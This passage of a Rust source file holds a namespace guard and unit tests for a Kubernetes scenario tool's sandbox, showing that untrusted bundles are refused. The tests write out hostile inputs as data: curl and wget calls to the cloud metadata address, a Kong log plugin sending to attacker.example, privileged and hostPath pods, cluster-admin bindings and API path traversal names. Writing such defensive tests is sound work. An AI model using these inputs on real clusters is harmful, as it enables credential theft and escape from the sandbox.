pub fn guard(object: &Value, cluster_scoped: bool, namespace: &str) -> Result<(), String> {
    let kind = object.get("kind").and_then(Value::as_str).unwrap_or_default();
    let api_version = object.get("apiVersion").and_then(Value::as_str).unwrap_or_default();
    let name = object.pointer("/metadata/name").and_then(Value::as_str).unwrap_or_default();
    if cluster_scoped {
        return if !cluster_scoped_allowed(api_version, kind) {
            Err(format!("{kind}/{name} is cluster-scoped; a scenario may create only: {}", allowed_list()))
        } else {
            cluster_scoped_name_problem(kind, name, namespace).map_or(Ok(()), Err)
        };
    }
    match object.pointer("/metadata/namespace").and_then(Value::as_str) {
        Some(ns) if ns != namespace => {
            Err(format!("{kind}/{name} is in namespace `{ns}`; a scenario acts only in `{namespace}`"))
        }
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::project::Project;
    use crate::scenario::{Catalog, CheckError, Mesh};

    /// A project holding one scenario (steps and mutants as given) and one fixture file, opened
    /// as a catalog: the directory (kept alive by the caller) and the scenario file.
    fn project_with(steps: &str, fixture: &str, mutants: &str) -> (tempfile::TempDir, Catalog, std::path::PathBuf) {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
        let dir = tempfile::tempdir().unwrap();
        std::fs::copy(root.join("versions.toml"), dir.path().join("versions.toml")).unwrap();
        std::fs::create_dir_all(dir.path().join("scenarios")).unwrap();
        std::fs::create_dir_all(dir.path().join("fixtures")).unwrap();
        std::fs::write(dir.path().join("fixtures/objects.yaml"), fixture).unwrap();
        let scenario = format!(
            "name: reach\nsummary: s\nmeshes: [none]\ncovers: [ingress]\nfixtures: [objects.yaml]\nsteps:\n{steps}{mutants}"
        );
        let file = dir.path().join("scenarios/reach.yaml");
        std::fs::write(&file, scenario).unwrap();
        let catalog = Catalog::open(Project::at(dir.path())).unwrap();
        (dir, catalog, file)
    }

    /// [`project_with`]'s scenario checked offline: its first located error, if any.
    fn check_scenario(steps: &str, fixture: &str, mutants: &str) -> Result<(), Box<crate::diagnostic::Diagnostic>> {
        let (_dir, catalog, file) = project_with(steps, fixture, mutants);
        match catalog.check_mesh(&file, Mesh::None, "offline") {
            Ok(_) => Ok(()),
            Err(CheckError::Load(e)) => Err(e.0),
            Err(other) => panic!("{other}"),
        }
    }

    const OK_STEP: &str = "  - wait: {resource: {apiVersion: v1, kind: Service, name: echo}, condition: exists}\n";
    const SERVICE: &str = "apiVersion: v1\nkind: Service\nmetadata:\n  name: echo\nspec:\n  ports: [{port: 80}]\n";

    #[test]
    fn a_namespace_owns_its_name_and_dash_suffixes_only() {
        assert!(owned_by_namespace("t-1", "t-1"));
        assert!(owned_by_namespace("t-1-global", "t-1"));
        assert!(!owned_by_namespace("t-10-global", "t-1"), "another scenario's namespace");
        assert!(!owned_by_namespace("t-1x", "t-1"));
        assert!(!owned_by_namespace("x-t-1", "t-1"));
        assert!(guard(&serde_json::json!({"apiVersion": "configuration.konghq.com/v1", "kind": "KongClusterPlugin", "metadata": {"name": "t-10-a"}}), true, "t-1").is_err());
    }

    #[test]
    fn the_scenarios_own_namespace_is_fine() {
        assert_eq!(check_scenario(OK_STEP, SERVICE, ""), Ok(()));
        let written = SERVICE.replace("  name: echo\n", "  name: echo\n  namespace: \"{{ namespace }}\"\n");
        assert_eq!(check_scenario(OK_STEP, &written, ""), Ok(()));
        // Reading elsewhere is allowed.
        let read = "  - wait: {resource: {apiVersion: apps/v1, kind: Deployment, name: coredns, namespace: kube-system}, condition: available}\n";
        assert_eq!(check_scenario(read, SERVICE, ""), Ok(()));
    }

    /// Writes outside the namespace are lint errors where they are written.
    #[test]
    fn writes_elsewhere_are_refused_where_they_are_written() {
        let cases = [
            (
                OK_STEP.to_owned(),
                SERVICE.replace("  name: echo\n", "  name: echo\n  namespace: kube-system\n"),
                String::new(),
                "metadata.namespace",
                "is in namespace `kube-system`",
            ),
            (
                OK_STEP.to_owned(),
                format!("{SERVICE}---\napiVersion: v1\nkind: Namespace\nmetadata:\n  name: x\n"),
                String::new(),
                "kind",
                "may not create cluster-scoped Namespace objects",
            ),
            (
                "  - delete: {resource: {apiVersion: v1, kind: Namespace, name: kube-system}}\n".to_owned(),
                SERVICE.to_owned(),
                String::new(),
                "steps[0].delete.resource",
                "cluster-scoped Namespace/kube-system",
            ),
            (
                "  - delete: {resource: {apiVersion: v1, kind: Service, name: kube-dns, namespace: kube-system}}\n"
                    .to_owned(),
                SERVICE.to_owned(),
                String::new(),
                "steps[0].delete.resource",
                "not in `kube-system`",
            ),
            (
                "  - from-pod: {client: {meshed: false, namespace: kube-system}, url: 'http://x/', expect: {status: 200}}\n"
                    .to_owned(),
                SERVICE.to_owned(),
                String::new(),
                "steps[0].from-pod.client.namespace",
                "client pods run in the scenario's namespace",
            ),
            (
                "  - wait: {resource: {apiVersion: v1, kind: Secret, name: admin-token, namespace: kube-system}, condition: exists}\n"
                    .to_owned(),
                SERVICE.to_owned(),
                String::new(),
                "steps[0].wait.resource",
                "reads Secrets only in its own namespace",
            ),
            (
                OK_STEP.to_owned(),
                SERVICE.to_owned(),
                "mutants:\n  - {name: move, why: w, fails-at: 1, set: [{kind: Service, name: echo, path: [metadata, namespace], value: kube-system}]}\n"
                    .to_owned(),
                "mutants[0].set[0].path",
                "never which object it is",
            ),
        ];
        for (steps, fixture, mutants, field, message) in cases {
            let d = check_scenario(&steps, &fixture, &mutants).unwrap_err();
            assert_eq!(d.code, "scope", "{d}");
            assert_eq!(d.field.as_deref(), Some(field), "{d}");
            assert!(d.message.contains(message), "{d}");
            assert!(d.position.line > 0, "located: {d}");
        }
    }

    /// Pods that would reach the node (kind nodes are privileged containers on the user's
    /// Docker host), images the checkout does not pin, and pod security changes are refused.
    #[test]
    fn pods_stay_in_their_containers_and_run_pinned_images() {
        let pod = |spec: &str| format!("apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n{spec}");
        let image = "    image: \"{{ images.echo }}\"\n";
        let cases = [
            (pod(&format!("  hostPID: true\n  containers:\n  - name: c\n{image}")), "spec.hostPID"),
            (
                pod(&format!("  containers:\n  - name: c\n{image}    securityContext: {{privileged: true}}\n")),
                "spec.containers.0.securityContext.privileged",
            ),
            (
                pod(&format!(
                    "  volumes: [{{name: root, hostPath: {{path: /}}}}]\n  containers:\n  - name: c\n{image}"
                )),
                "spec.volumes.0.hostPath",
            ),
            (pod("  containers:\n  - name: c\n    image: alpine:latest\n"), "spec.containers.0.image"),
            (
                pod(&format!(
                    "  initContainers:\n  - name: i\n{image}    securityContext: {{capabilities: {{add: [SYS_ADMIN]}}}}\n  containers:\n  - name: c\n{image}"
                )),
                "spec.initContainers.0.securityContext.capabilities.add",
            ),
        ];
        for (fixture, field) in cases {
            let d = check_scenario(OK_STEP, &format!("{SERVICE}---\n{fixture}"), "").unwrap_err();
            assert_eq!(d.field.as_deref(), Some(field), "{d}");
            assert!(d.position.line > 6, "located in the fixture: {d}");
        }
        let fine = pod(&format!("  containers:\n  - name: c\n{image}"));
        assert_eq!(check_scenario(OK_STEP, &format!("{SERVICE}---\n{fine}"), ""), Ok(()));
        let d = check_scenario(
            &format!("{OK_STEP}namespace:\n  labels: {{pod-security.kubernetes.io/enforce: privileged}}\n"),
            SERVICE,
            "",
        )
        .unwrap_err();
        assert!(d.message.contains("pod security"), "{d}");
    }

    /// What a stranger's fixtures tried in the attack trial (issue 25): each refused at its line,
    /// for every scenario, with the field named.
    #[test]
    fn fixtures_cannot_reach_beyond_the_cluster_or_run_as_root() {
        let image = "    image: \"{{ images.echo }}\"\n";
        let pod = |spec: &str| format!("apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n{spec}");
        let cases = [
            (
                "apiVersion: v1\nkind: Service\nmetadata:\n  name: grab\nspec:\n  ports: [{port: 80}]\n  externalIPs: [8.8.8.8]\n"
                    .to_owned(),
                "spec.externalIPs",
            ),
            (
                "apiVersion: v1\nkind: Service\nmetadata:\n  name: meta\nspec:\n  type: ExternalName\n  externalName: metadata.google.internal\n"
                    .to_owned(),
                "spec.type",
            ),
            (
                "apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata:\n  name: meta\naddressType: IPv4\n\
                 endpoints: [{addresses: [169.254.169.254]}]\nports: [{port: 80}]\n"
                    .to_owned(),
                "kind",
            ),
            (
                "apiVersion: v1\nkind: Endpoints\nmetadata:\n  name: meta\nsubsets: [{addresses: [{ip: 169.254.169.254}]}]\n"
                    .to_owned(),
                "kind",
            ),
            (
                "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: admin\n\
                 roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n\
                 subjects: [{kind: ServiceAccount, name: default}]\n"
                    .to_owned(),
                "roleRef.kind",
            ),
            (
                "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: outsider\n\
                 roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: mine}\n\
                 subjects: [{kind: ServiceAccount, name: default, namespace: kube-system}]\n"
                    .to_owned(),
                "subjects",
            ),
            (
                pod(&format!("  securityContext: {{seccompProfile: {{type: Unconfined}}}}\n  containers:\n  - name: c\n{image}")),
                "spec.securityContext.seccompProfile.type",
            ),
            (
                pod(&format!("  containers:\n  - name: c\n{image}    securityContext: {{runAsUser: 0}}\n")),
                "spec.containers.0.securityContext.runAsUser",
            ),
            (
                pod(&format!("  containers:\n  - name: c\n{image}    securityContext: {{runAsNonRoot: false}}\n")),
                "spec.containers.0.securityContext.runAsNonRoot",
            ),
        ];
        for (fixture, field) in cases {
            let d = check_scenario(OK_STEP, &format!("{SERVICE}---\n{fixture}"), "").unwrap_err();
            assert_eq!(d.field.as_deref(), Some(field), "{d}");
            assert!(d.position.line > 6, "located in the fixture: {d}");
        }
        // RuntimeDefault, a non-root user and a Role of the namespace's own are fine.
        let fine = format!(
            "{SERVICE}---\n{}---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: mine\n\
             roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: mine}}\n\
             subjects: [{{kind: ServiceAccount, name: default}}]\n",
            pod(&format!(
                "  securityContext: {{seccompProfile: {{type: RuntimeDefault}}, runAsNonRoot: true, runAsUser: 65532}}\n  \
                 containers:\n  - name: c\n{image}"
            ))
        );
        assert_eq!(check_scenario(OK_STEP, &fine, ""), Ok(()));
    }

    /// What only an untrusted bundle may not do, each refused at its line with the way out
    /// (`--trust-bundle`): a container command of its own, a NetworkPolicy of its own (policies
    /// add up and would undo the sandbox), a client pod's request to anything but a Service of
    /// its namespace (Kong's admin API here).
    /// A name a step gives goes into an API path as written: one that would address another
    /// resource is refused where it is written, whichever step names it.
    #[test]
    fn step_names_cannot_walk_the_api_path() {
        let checked = |steps: &str| {
            let (_dir, catalog, file) = project_with(steps, SERVICE, "exclusive: true\n");
            catalog.check(&file, "r1").map(|_| ()).map_err(|e| e.to_string())
        };
        let traversal = "../../../api/v1/namespaces/kube-system/secrets/x";
        for steps in [
            format!(
                "  - wait: {{resource: {{apiVersion: v1, kind: Service, name: \"{traversal}\"}}, condition: exists}}\n"
            ),
            "  - delete: {resource: {apiVersion: v1, kind: Service, name: \"..\"}}\n".to_owned(),
            format!("  - restart: {{target: {{workload: {{kind: Deployment, name: \"{traversal}\"}}}}}}\n"),
            "  - load:\n      request: {path: /}\n      rate: 5\n      budget: {errors: 0.1, outage: 5s}\n      \
             during: [{restart: {target: {workload: {kind: Deployment, name: \"a%2Fb\"}}}}]\n"
                .to_owned(),
        ] {
            let err = checked(&steps).unwrap_err();
            assert!(err.contains("cannot name an object in an API path"), "{steps}: {err}");
        }
        checked("  - wait: {resource: {apiVersion: v1, kind: Service, name: echo}, condition: exists}\n").unwrap();
    }

    #[test]
    fn untrusted_bundles_choose_no_command_no_policy_and_no_foreign_url() {
        let case = |steps: &str, fixture: &str| {
            let (_dir, catalog, file) = project_with(steps, fixture, "");
            let checked = catalog.check(&file, "r1").unwrap().remove(0);
            untrusted_problem(&checked.scenario, &checked.manifests)
        };
        let deployment = |extra: &str| {
            format!(
                "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: d\nspec:\n  template:\n    spec:\n      \
                 containers:\n      - name: c\n        image: \"{{{{ images.echo }}}}\"\n{extra}"
            )
        };
        let command = deployment("        command: [sh, -c, 'curl 169.254.169.254']\n");
        let d = case(OK_STEP, &format!("{SERVICE}---\n{command}")).expect("refused");
        assert_eq!(d.field.as_deref(), Some("spec.template.spec.containers.0.command"));
        assert_eq!(d.position.line, 18, "{d}");
        assert!(d.help.as_deref().is_some_and(|h| h.contains("--trust-bundle")), "{d}");
        let open = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: all\nspec:\n  \
                    podSelector: {}\n  policyTypes: [Egress]\n  egress: [{}]\n";
        let d = case(OK_STEP, &format!("{SERVICE}---\n{open}")).expect("refused");
        assert!(d.message.contains("NetworkPolicy all") && d.position.line == 9, "{d}");
        let to_kong_admin = "  - from-pod:\n      client: {meshed: false}\n      \
                             url: \"http://kong-gateway-admin.kong.svc.cluster.local:8444/services\"\n      expect: {status: 200}\n";
        let d = case(to_kong_admin, SERVICE).expect("refused");
        assert_eq!(d.field.as_deref(), Some("steps[0].from-pod.url"));
        // No mesh upgrade from a stranger, alone or under load (`exclusive`, as an upgrade needs).
        let alone = |steps: &str| {
            let (_dir, catalog, file) = project_with(steps, SERVICE, "exclusive: true\n");
            let checked = catalog.check(&file, "r1").unwrap().remove(0);
            untrusted_problem(&checked.scenario, &checked.manifests)
        };
        let d = alone("  - upgrade: {mesh: next}\n").expect("refused");
        assert!(d.message.contains("upgrades nothing"), "{d}");
        let under_load = "  - load:\n      request: {path: /}\n      rate: 5\n      budget: {errors: 0.1, outage: 5s}\n      \
                          during: [{upgrade: {mesh: next}}]\n";
        assert_eq!(alone(under_load).expect("refused").field.as_deref(), Some("steps[0].load"));
        assert!(d.position.line > 6, "{d}");
        // Commands by other means, policies undone, Kong sent outside, requests to addresses.
        let probe = deployment("        livenessProbe: {exec: {command: [sh, -c, 'wget 169.254.169.254']}}\n");
        let d = case(OK_STEP, &format!("{SERVICE}---\n{probe}")).expect("refused");
        assert_eq!(d.field.as_deref(), Some("spec.template.spec.containers.0.livenessProbe.exec"));
        let hook = deployment("        lifecycle: {postStart: {exec: {command: [sh]}}}\n");
        let d = case(OK_STEP, &format!("{SERVICE}---\n{hook}")).expect("refused");
        assert_eq!(d.field.as_deref(), Some("spec.template.spec.containers.0.lifecycle.postStart.exec"));
        let log = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: out\nplugin: http-log\n\
                   config:\n  http_endpoint: http://169.254.169.254/latest/meta-data\n";
        let d = case(OK_STEP, &format!("{SERVICE}---\n{log}")).expect("refused");
        assert_eq!(d.field.as_deref(), Some("config.http_endpoint"), "{d}");
        let lua = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: lua\nplugin: pre-function\n\
                   config: {access: [\"kong.log.err('x')\"]}\n";
        assert_eq!(case(OK_STEP, &format!("{SERVICE}---\n{lua}")).expect("refused").field.as_deref(), Some("plugin"));
        let tcp = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: tcp\nplugin: tcp-log\n\
                   config: {host: attacker.example, port: 4444}\n";
        assert_eq!(
            case(OK_STEP, &format!("{SERVICE}---\n{tcp}")).expect("refused").field.as_deref(),
            Some("config.host")
        );
        let unpolicy = "  - delete: {resource: {apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, name: kme2e-sandbox-egress}}\n";
        let d = case(unpolicy, SERVICE).expect("refused");
        assert_eq!(d.field.as_deref(), Some("steps[0].delete.resource"));
        for url in [
            "http://echo.{{ namespace }}.evil.example/",
            "http://localhost:15000/config_dump",
            "http://2852039166/",
            "http://user:pw@echo.{{ namespace }}.svc.cluster.local/",
            "http://kubernetes.default.svc/api",
        ] {
            let step = format!(
                "  - from-pod:\n      client: {{meshed: false}}\n      url: \"{url}\"\n      expect: {{status: 200}}\n"
            );
            let d = case(&step, SERVICE).unwrap_or_else(|| panic!("{url} refused"));
            assert_eq!(d.field.as_deref(), Some("steps[0].from-pod.url"), "{url}");
        }
        // A plugin sending spans to the collector's Service is fine.
        let otel = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: otel\nplugin: opentelemetry\n\
                    config: {traces_endpoint: \"http://jaeger.tracing.svc.cluster.local:4318/v1/traces\"}\n";
        assert!(case(OK_STEP, &format!("{SERVICE}---\n{otel}")).is_none());
        // The same, done the way the sandbox allows, is fine.
        let own = "  - from-pod:\n      client: {meshed: false}\n      \
                   url: \"http://echo.{{ namespace }}.svc.cluster.local/\"\n      expect: {status: 200}\n";
        assert!(case(own, &format!("{SERVICE}---\n{}", deployment(""))).is_none());
    }

    /// An untrusted bundle's pods get the runtime's default seccomp filter unless they name one.
    #[test]
    fn untrusted_pods_get_the_default_seccomp_filter() {
        let deployment = serde_json::json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "d"},
            "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "x"}]}}}});
        let out = with_default_seccomp(deployment);
        assert_eq!(
            out.pointer("/spec/template/spec/securityContext/seccompProfile/type"),
            Some(&serde_json::json!("RuntimeDefault"))
        );
        let named = serde_json::json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"},
            "spec": {"securityContext": {"seccompProfile": {"type": "Localhost", "localhostProfile": "p.json"}}, "containers": []}});
        assert_eq!(with_default_seccomp(named.clone()), named, "a profile the pod names is kept");
        let service = serde_json::json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "s"}});
        assert_eq!(with_default_seccomp(service.clone()), service);
    }

    /// The sandbox's egress policy: the namespace's own pods, DNS and the named namespaces only.
    #[test]
    fn the_sandbox_allows_the_clusters_own_services_only() {
        let policy = sandbox_policy("t-1", &["istio-system", "kong", "tracing", "kong", ""]);
        assert_eq!(policy["spec"]["policyTypes"], serde_json::json!(["Egress"]));
        let egress = policy["spec"]["egress"].as_array().unwrap();
        assert_eq!(egress.len(), 3);
        assert_eq!(egress[0]["to"][0]["podSelector"], serde_json::json!({}));
        assert_eq!(egress[1]["ports"][0]["port"], 53);
        assert_eq!(
            egress[2]["to"][0]["namespaceSelector"]["matchExpressions"][0]["values"],
            serde_json::json!(["istio-system", "kong", "tracing"])
        );
        // No rule names an IP block: nothing outside the cluster's pods is reachable.
        assert!(!serde_json::to_string(&policy).unwrap().contains("ipBlock"));
        // It is a NetworkPolicy the API server's schema accepts (k8s-openapi's types, 1.35).
        let typed: k8s_openapi::api::networking::v1::NetworkPolicy = serde_json::from_value(policy).unwrap();
        assert_eq!(typed.spec.and_then(|s| s.egress).map(|e| e.len()), Some(3));
    }

    #[test]
    fn the_run_time_guard_uses_the_servers_scope() {
        let object = |kind: &str, ns: Option<&str>| serde_json::json!({"apiVersion": "v1", "kind": kind, "metadata": {"name": "x", "namespace": ns}});
        assert_eq!(guard(&object("Service", Some("t")), false, "t"), Ok(()));
        assert!(guard(&object("Service", Some("kube-system")), false, "t").is_err());
        // A kind this module does not know is judged by what discovery said.
        assert!(guard(&object("SomeClusterThing", None), true, "t").unwrap_err().contains("cluster-scoped"));
        let plugin = |name: &str| serde_json::json!({"apiVersion": "configuration.konghq.com/v1", "kind": "KongClusterPlugin", "metadata": {"name": name}});
        assert_eq!(guard(&plugin("t-add-header"), true, "t"), Ok(()));
        assert!(guard(&plugin("existing-global-plugin"), true, "t").unwrap_err().contains("named after"));
        // The same kind name in another group is not allowed.
        assert!(guard(&object("KongClusterPlugin", None), true, "t").is_err());
    }
    /// A global Kong plugin or Kong-wide metrics touch every scenario running beside: refused
    /// unless the scenario says `exclusive: true` (then it runs alone).
    #[test]
    fn shared_state_needs_exclusive() {
        use crate::testing::check_in_a_copy as checked;
        let head = "name: case\nsummary: s\nmeshes: [istio]\ncovers: [ingress]\n";
        let global = "apiVersion: configuration.konghq.com/v1\nkind: KongClusterPlugin\n\
                      metadata:\n  name: \"{{ namespace }}\"\n  labels: {global: \"true\"}\nplugin: correlation-id\n";
        let steps = "steps:\n  - http:\n      request: {path: /echo/x}\n      expect: {status: 200}\n";
        let text = format!("{head}fixtures: [base/echo.yaml, kong/ingress-echo.yaml, global.yaml]\n{steps}");
        let err = checked(&text, &[("global.yaml", global)]).unwrap_err();
        assert!(err.contains("KongClusterPlugin") && err.contains("is labelled `global: \"true\"`"), "{err}");
        assert!(err.contains("declare `exclusive: true`"), "{err}");
        checked(&text.replacen("covers:", "exclusive: true\ncovers:", 1), &[("global.yaml", global)]).unwrap();

        let metrics = |labels: &str| {
            format!(
                "{head}fixtures: [base/echo.yaml, kong/ingress-echo.yaml]\nsteps:\n  - metrics:\n      target: kong\n      \
                 expect: [{{name: kong_http_requests_total, labels: {labels}, at-least: 1}}]\n"
            )
        };
        let err = checked(&metrics("{code: \"200\"}"), &[]).unwrap_err();
        assert!(err.contains("step 1 reads Kong's `kong_http_requests_total` series without a label"), "{err}");
        checked(&metrics("{service: {prefix: \"{{ namespace }}.\"}}"), &[]).unwrap();
        // ztunnel's counters are every namespace's too.
        let ztunnel = |labels: &str| {
            format!(
                "name: case\nsummary: s\nmeshes: [istio-ambient]\ncovers: [mtls]\nfixtures: [base/echo.yaml, kong/ingress-echo.yaml]\n\
                 steps:\n  - metrics:\n      target: ztunnel\n      \
                 expect: [{{name: istio_tcp_connections_opened_total, labels: {labels}}}]\n"
            )
        };
        let on = |text: &str| crate::testing::check_in_a_copy_on(crate::scenario::Mesh::IstioAmbient, text, &[]);
        let err = on(&ztunnel("{connection_security_policy: mutual_tls}")).unwrap_err();
        assert!(
            err.contains("step 1 reads ztunnel's `istio_tcp_connections_opened_total` series without a label"),
            "{err}"
        );
        on(&ztunnel("{destination_workload_namespace: \"{{ namespace }}\"}")).unwrap();
    }
}
